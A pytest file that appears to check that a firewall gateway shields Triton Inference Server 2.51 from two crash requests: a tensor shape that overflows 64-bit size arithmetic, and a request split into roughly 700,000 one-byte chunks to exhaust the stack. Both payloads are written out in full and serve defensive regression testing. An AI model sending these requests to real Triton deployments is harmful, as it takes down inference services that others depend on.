"""Two requests that end Triton 2.51: sent to it directly they do, through the firewall they do not.

Each instance is the test's own: it is to die.
"""

import json
import re

import numpy as np
import pytest
from real_servers import FEATURES, responds, serving
from real_tensors import random_tensor

from loadtest.process import ProcessError
from loadtest.wire import Session, render_request

MODEL = "echo_fp32"
TARGET = f"/v2/models/{MODEL}/infer"


def infer_body(shape):
    tensor = {"name": "x", "datatype": "FP32", "shape": shape, "data": [0.5] * FEATURES}
    return json.dumps({"inputs": [tensor]}).encode()


# The product of the shape overflows 64 bits in the server, to a size that it allocates.
SHAPE = render_request("POST", TARGET, "localhost", infer_body([1099511627776, FEATURES]))

# A valid request, and white space to a body of 700 000 bytes, each a chunk of its own: the server
# keeps a frame of its stack for every chunk (the class of CVE-2025-23310 and CVE-2025-23311).
CHUNKS = (
    f"POST {TARGET} HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    + b"".join(b"1\r\n%c\r\n" % byte for byte in infer_body([1, FEATURES]).ljust(700_000))
    + b"0\r\n\r\n"
)


def send(port, request):
    """The answer's status, or None if the connection ended without one."""
    with Session(("127.0.0.1", port), timeout=60.0) as session:
        try:
            return session.exchange(request).status
        except OSError:
            return None


@pytest.mark.parametrize("request_bytes", [SHAPE, CHUNKS], ids=["shape", "chunks"])
def test_direct_it_dies(triton, free_port, request_bytes):
    port = free_port()
    process = triton.start(port, MODEL)
    with serving(process, port):
        assert send(port, request_bytes) is None
        with pytest.raises(ProcessError) as ended:
            process.wait_until(lambda: False, 60)
    # A fault that its own handler reports may still end it with status 0.
    assert re.search(
        r"ended with status (-6|-11|127):|Signal \((6|11)\) received", str(ended.value)
    )


@pytest.mark.parametrize(
    ("request_bytes", "status"), [(SHAPE, 400), (CHUNKS, 200)], ids=["shape", "chunks"]
)
def test_behind_the_firewall_it_lives(triton, free_port, gateway, client, request_bytes, status):
    port = free_port()
    process = triton.start(port, MODEL)
    with serving(process, port):
        endpoint = {
            "name": "echo",
            "match": f"/v2/models/{MODEL}",
            "upstream": f"http://127.0.0.1:{port}",
        }
        guard = gateway([endpoint])
        for _ in range(3):
            assert send(guard.port, request_bytes) == status
        assert responds(port)
        process.check()
        tensor = random_tensor(np.random.default_rng(9), "FP32", 2)
        answer = client.infer(guard.port, MODEL, tensor, "FP32")
        assert answer == client.infer(port, MODEL, tensor, "FP32")
        assert "result" in answer
